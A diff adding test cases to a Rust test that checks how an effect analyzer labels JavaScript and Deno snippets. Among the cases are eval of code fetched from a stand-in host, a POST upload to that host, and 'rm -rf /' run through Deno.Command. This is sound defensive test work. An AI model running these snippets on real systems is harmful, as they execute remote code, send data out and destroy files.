@@ -68,6 +68,9 @@ fn files_and_network() {
             ("eval(await (await fetch('https://a.example/x')).text())", "network a.example; execute Fetched eval(…)"),
             ("fetch('https://a.example', {method:'POST', body: x})", "upload a.example"),
             ("fs.readFileSync(0, 'utf8')", "harmless"),
+            ("console.log(require('./package.json').version)", "read ./package.json; harmless"),
+            ("fs.rmSync(path.join(process.cwd(), 'dist'), {recursive: true})", "delete-tree ./dist"),
+            ("new Deno.Command('rm', {args: ['-rf', '/']}).output()", "run rm -rf /"),
         ],
     );
 }
